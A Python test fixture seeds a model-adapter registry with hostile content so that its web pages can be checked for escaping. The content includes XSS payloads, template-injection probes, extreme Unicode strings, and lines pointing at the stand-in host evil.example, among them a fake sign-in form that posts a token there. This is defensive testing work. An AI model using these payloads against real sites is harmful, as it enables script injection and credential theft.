"""Content that must stay text: pushed through the real interface into every place that pages show.

`fill` fills a registry; `PATHS` are the pages that show it.
"""

from __future__ import annotations

import base64
import json
import re
from typing import Any

from registry.api.access import PublisherAdd, TokenCreate
from registry.api.audit.webhooks import WebhookCreate
from registry.api.catalog import MetadataChange
from registry.api.jobs import ClaimRequest, FinishRequest
from registry.client.audit import Audit
from registry.digest import Digest
from registry.evaluation.reports import Report
from registry.evaluation.verdicts import Check
from registry.findings import Finding
from registry.versions.provenance import Code, Dataset, Provenance, Run
from tests import samples
from tests.harness import Harness

MARKUP = (
    "\"'><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)></title></textarea></pre>"
    "<style>*{display:none}</style><base href=//evil.example><iframe src=//evil.example></iframe>{{ 7 * 7 }}${7*7}<!--"
)
LONG = "w" * 300
WIDE = "日本語" * 12 + "👩‍💻" * 6 + "\ufdfd" * 3 + "Z" + "\u0301\u0323\u0489" * 30
"""Letters that are wider, or higher, than Latin ones."""
MARKS = "Z" + "\u0301\u20dd\u0489\u1dff\u0338" * 300
"""One character with 1,500 marks, which no line breaks."""
CLUSTERS = ("👩\u200d", "\u1100", "क्", "\u0600", "❤️\u200d", "क\u093c्\u200d", "ﾞ", "ำ", "<b>👩\u200d</b>",
            "©\u200d", "®\ufe0f\u200d", "©\u200d👩\u200d", "\U00011f02\U00011f42", "\U00016d63\U00016d67",
            "\U00011392\U000113d0", "Z\u0897\U000113ce")  # fmt: skip
"""Repeated, each is one character to a browser, which no line breaks; the last ones are newer than Python's Unicode."""
NESTED = (
    "> " * 30
    + "- " * 30
    + "deep\n\n"
    + "".join(f"{'  ' * depth}- > - level {depth}\n" for depth in range(20))
    + "\n| a | b |\n|---|---|\n| "
    + "w" * 200
    + " | "
    + "<blockquote><ul><li>" * 12
    + "x" * 4096
    + " |\n"
).encode()
"""Lists in quotes in tables, deeper than a phone is wide."""
README = (
    b"""---
base_model: "<script>alert(1)</script>"
datasets: ["<img src=x onerror=alert(1)>"]
---
# <script>alert(1)</script> heading

<script src=//evil.example/x.js></script><script>document.body.remove()</script>
<img src=x onerror=alert(1)><img src=//evil.example/pixel.png>
<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a><animate onbegin=alert(1) /></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<style>body { display: none } @import url(//evil.example/x.css);</style>
<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">
<form action=//evil.example><input name=token><button>Sign in</button></form>
<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//evil.example></object><embed src=//evil.example>
<details open ontoggle=alert(1)><summary style="position:fixed;inset:0">x</summary></details>
<a href="javascript:alert(1)" target=_top onclick=alert(1) id=main class=site style="position:fixed">link</a>
<div></div></div></section></main></body></html>

[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c](vbscript:x)
[d](//evil.example) [e](/sign-out)
[f]: javascript:alert(1)
[f] <javascript:alert(1)> ![pixel](http://evil.example/pixel.png) [g](https://example.org "\\" onmouseover=alert(1)")

| a | b |
|---|---|
| <script>alert(1)</script> | `<img src=x onerror=alert(1)>` |

"""
    + b"w" * 4096
    + b"\n\n"
    + NESTED
)
REF = "evil/adapter"
LONG_REF, LONG_ALIAS = "evil/" + "m" * 64, "z" * 60
PATHS = (
    "/", "/search?text=evil", f"/search?text={MARKUP[:90]}", f"/search?base={MARKUP[:60]}&owner={MARKUP[:90]}",
    f"/adapters/{REF}",
    f"/adapters/{REF}/versions/1", f"/adapters/{REF}/versions/2", f"/adapters/{REF}/versions/1/lineage",
    f"/adapters/{REF}/versions/1/lineage.html",
    f"/compare?first={REF}@1&second={REF}@2", f"/compare?first={MARKUP[:60]}&second=%00",
    f"/adapters/{REF}/aliases/prod", f"/adapters/{REF}/aliases/marks", f"/adapters/{REF}-of-marks",
    f"/adapters/{REF}-of-marks/versions/1", f"/adapters/{REF}-of-marks/versions/1/lineage",
    f"/adapters/{REF}-of-clusters-1", f"/adapters/{REF}-of-clusters-2/versions/1", "/search?text=clusters",
    f"/adapters/{LONG_REF}", f"/adapters/{LONG_REF}/aliases/{LONG_ALIAS}?version=2",
    f"/compare?first={LONG_REF}@1&second={LONG_REF}@2",
    f"/adapters/{REF}/aliases/prod?at={MARKUP[:30]}&version=1", "/namespaces/evil", "/bases", "/bases/tiny-llama",
    "/fleet", f"/fleet?adapter={MARKUP[:40]}", "/jobs", f"/jobs?ref={MARKUP[:60]}", f"/jobs/{MARKUP[:40]}",
    "/audit", "/audit/9", "/audit/12",
    f"/audit?object={MARKUP[:90]}", f"/audit?object={MARKS[:90]}&actor={MARKS[:90]}", f"/audit?since={MARKUP[:90]}",
    f"/audit?action={MARKS[:90]}", "/audit?actor=token:admin",
    "/settings", "/settings/namespaces/evil", f"/settings/adapters/{REF}",
    "/settings/tokens", "/settings/webhooks", "/settings/webhooks/WEBHOOK", f"/settings/tokens?cursor={MARKUP[:40]}",
    f"/sign-in/with/{MARKUP[:40]}", f"/live?page={MARKUP[:60]}", "/status",
    f"/adapters/{MARKUP[:40]}/x", f"/sign-in?next={MARKUP[:90]}",
    f"/sign-in/{MARKUP[:40]}",
)  # fmt: skip


def path_of(harness: Harness, path: str) -> str:
    """The path with the id of the webhook, which `fill` has created."""
    return path.replace("WEBHOOK", Audit(harness.admin).webhooks().items[0].id) if "WEBHOOK" in path else path


def fill(harness: Harness) -> None:
    """An adapter with two versions and everything that a pusher, a promoter, a worker and an owner write."""
    base = samples.llama()
    harness.add_base(base, source=MARKUP)
    registry = harness.admin
    registry.create_namespace("evil", owner="evil@evil.example")
    name = MARKUP[:100].replace("\n", " ")
    pusher = harness.client(registry.create_token(TokenCreate(name=name, scopes=["admin"], namespaces=["*"])).secret)
    provenance = Provenance(
        datasets=(
            Dataset(name=MARKUP[:200], uri="https://evil.example/d", digest=Digest.of(b"d")),
            Dataset(name=WIDE, uri="https://evil.example/wide", digest=Digest.of(b"wide")),
        ),
        run=Run(tool="mlflow", id="run", url="https://evil.example/run"),
        code=Code(repository="https://evil.example/code", commit="4" * 40),
        parameters={"learning_rate": MARKUP, "b": LONG},
    )
    golden = json.dumps({"prompt": MARKUP, "expected": f"</td></table>{MARKUP}"}).encode() + b"\n"
    for number in (1, 2):
        log = [{"step": step, "loss": 2.0 - step / 10} for step in range(4)]
        state = json.dumps({"global_step": 3, "log_history": log, "best_model_checkpoint": MARKUP}).encode()
        files = dict(harness.files(base)) | {"README.md": README, "golden.jsonl": golden, "trainer_state.json": state}
        annotations = {"note": MARKUP[:200]}
        harness.push(REF, files, by=pusher, message=f"{MARKUP}\n{LONG}", provenance=provenance, annotations=annotations)
        _finish_smoke_test(harness, f"{REF}@{number}")
    change = MetadataChange(
        description=MARKUP,
        tags={"note": MARKUP[:200]},
        links={"site": "https://evil.example/?\"'><script>alert(1)</script>"},
    )
    registry.describe_adapter(REF, change)
    registry.describe(f"{REF}@1", change)
    pusher.promote(REF, "prod", "1", generation=0, reason=MARKUP)
    pusher.promote(REF, "marks", "1", generation=0, reason=MARKS)
    _push_long_names(harness)
    harness.push(
        f"{REF}-of-marks", {**harness.files(base), "README.md": f"# {MARKS}\n\n{MARKS}\n".encode()}, message=MARKS
    )
    registry.describe_adapter(f"{REF}-of-marks", MetadataChange(description=MARKS, tags={"note": MARKS[:200]}))
    text = "\n\n".join(cluster * 400 for cluster in CLUSTERS)
    for number, cluster in enumerate(CLUSTERS):
        name, files = f"{REF}-of-clusters-{number}", {**harness.files(base), "README.md": text.encode()}
        harness.push(name, files, message=(cluster * 400)[:1900])
        registry.describe_adapter(
            name, MetadataChange(description=(cluster * 400)[:1900], tags={"note": (cluster * 60)[:200]})
        )
    harness.issue("pull", name="lots of " + "\u0301" * 80)
    harness.issue("pull", name=MARKS[:100])
    harness.issue("pull", name="x" * 90)
    claimed = harness.admin.claim(ClaimRequest(worker="w" * 190))
    assert claimed is not None
    harness.give_back([claimed.job.id])
    registry.grant_role("evil", "p" * 150 + "@evil.example", "pusher")
    pusher.yank(f"{REF}@2", reason=MARKUP)
    pusher.quarantine(f"{REF}@1", reason=MARKUP + LONG)
    subject = re.sub(r"[^!-~]", "", MARKUP)[:190]
    registry.grant_role("evil", subject, "owner")
    registry.add_publisher(REF, PublisherAdd(issuer=MARKUP[:200], claims={MARKUP[:90]: MARKUP, LONG[:90]: LONG}))
    url = f"https://evil.example/{subject}{LONG}"
    Audit(registry).create_webhook(WebhookCreate(url=url, namespace="evil", actions=["version.push"]))


def _push_long_names(harness: Harness) -> None:
    for _ in range(2):
        harness.push(LONG_REF)
    harness.admin.promote(LONG_REF, LONG_ALIAS, "1", generation=0)


def _finish_smoke_test(harness: Harness, ref: str) -> None:
    """A report by a worker whose child process was taken over: it writes what it likes into every text."""
    version = harness.admin.version(ref)
    claimed = harness.admin.claim(ClaimRequest(worker=MARKUP[:200]))
    assert claimed is not None
    findings = (Finding.of("warning", "smoke.drift", MARKUP, MARKUP), Finding.of("warning", "smoke.drift", LONG, LONG))
    image = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()
    values: dict[str, Any] = {
        "golden": ({"log_p": -1.0, "base_log_p": -2.0, "margin_nats": 0.5},), "images": {"before": image},
        "answers": [{"prompt": text[:400], "base": text[:400], "adapter": text[:400]} for text in (MARKUP, LONG, WIDE)],
        "made_by": {MARKUP[:100]: MARKUP[:300]}, "measurements": {"largest_difference": 0.25},
    }  # fmt: skip
    report = Report(
        check=Check.SMOKE, subject=version.digest, base=version.base, base_fingerprint=version.base_fingerprint,
        findings=findings, **values,
    )  # fmt: skip
    harness.admin.finish(claimed.job.id, FinishRequest(lease_token=claimed.lease.token, report=report))
